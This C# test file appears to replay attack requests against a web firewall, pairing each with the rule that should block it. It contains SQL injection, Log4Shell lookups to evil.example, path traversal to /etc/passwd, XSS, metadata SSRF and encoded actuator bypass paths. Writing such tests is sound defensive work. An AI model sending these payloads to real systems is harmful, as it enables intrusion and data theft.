namespace Infra.Tests.Edge.Replay;

/// <summary>Requests that must not get through, each with the rule that ends it.</summary>
internal static class Attacks
{
    public static readonly (WebRequest Request, string BlockedBy)[] All =
    [
        (Get("SQL in a parameter") with { Query = "login_hint=alice%27%20OR%201%3D1--" }, "SQLi_QUERYARGUMENTS"),
        (Post("SQL in a form", "username=x%27+UNION+SELECT+password+FROM+users"), "SQLi_BODY"),
        (Get("SQL in a cookie").With("cookie", "sid=1' or '1'='1"), "SQLi_COOKIE"),
        (Get("Log4Shell in the user agent").With("user-agent", "${jndi:ldap://evil.example/a}"), "Log4JRCE_HEADER"),
        (
            Get("Log4Shell in the query") with
            {
                Query = "state=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D",
            },
            "Log4JRCE_QUERYSTRING"
        ),
        (Post("Log4Shell in a form", "state=${jndi:rmi://evil.example/a}"), "Log4JRCE_BODY"),
        (Get("traversal in a parameter") with { Query = "file=..%2F..%2F..%2Fetc%2Fpasswd" }, "GenericLFI_QUERYARGUMENTS"),
        (Get("traversal in the path", "/v1/../../etc/passwd"), "GenericLFI_URIPATH"),
        (Post("traversal in a form", "file=../../../etc/passwd"), "GenericLFI_BODY"),
        (
            Get("script in a parameter") with
            {
                Query = "state=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
            },
            "CrossSiteScripting_QUERYARGUMENTS"
        ),
        (Post("script in a form", "name=<script>fetch('//evil')</script>"), "CrossSiteScripting_BODY"),
        (Get("remote file in the path", "/v1/load/http://203.0.113.5/x"), "GenericRFI_URIPATH"),
        (Get("metadata in a cookie").With("cookie", "u=http://169.254.169.254/latest"), "EC2MetaDataSSRF_COOKIE"),
        (Get("a scanner").With("user-agent", "sqlmap/1.8"), "UserAgent_BadBots_HEADER"),
        (Get("a configuration file", "/config/application.ini"), "RestrictedExtensions_URIPATH"),
        (Get("a path without end", $"/{new string('a', 1100)}"), "SizeRestrictions_URIPATH"),
        (Get("a cookie without end").With("cookie", new string('a', 10_300)), "SizeRestrictions_Cookie_HEADER"),
        (Get("inner files", "/WEB-INF/web.xml"), "ExploitablePaths_URIPATH"),
        (Get("an address with a bad name") with { Ip = ManagedRules.KnownAttacker }, "AWSManagedIPReputationList"),
        (Get("inner workings by a way around", "/x/%2e%2e/actuator/env"), "GenericLFI_URIPATH"),
        .. ActuatorPaths.Select(path => (Get($"inner workings by {path}", path), "BlockActuator")),
    ];

    /// <summary>Paths that only resemble those to the inner workings.</summary>
    public static readonly string[] Innocent = ["/actuators", "/v1/factuator/x", "/v1/my-actuator", "/v1/actuator-settings"];

    // Ways to write a path to the inner workings. Servers see through all of them.
    private static string[] ActuatorPaths =>
        [
            "/actuator",
            "/actuator/",
            "/actuator/env",
            "/actuator/health",
            "/ACTUATOR/env",
            "/%61ctuator/env",
            "/%61%63%74%75%61%74%6f%72",
            "//actuator/env",
            "/./actuator/heapdump",
            "/actuator%2fenv",
            "/actuator;a=b/env",
            "/;a=b/actuator/env",
            "/actuator.json",
            "/67e7eae6-62b0-4500-9eff-87459f63fc66/actuator/env",
        ];

    private static WebRequest Get(string name, string path = "/v1/anything") => new(name, "GET", path);

    private static WebRequest Post(string name, string body) => new(name, "POST", "/v1/anything") { Body = body };
}
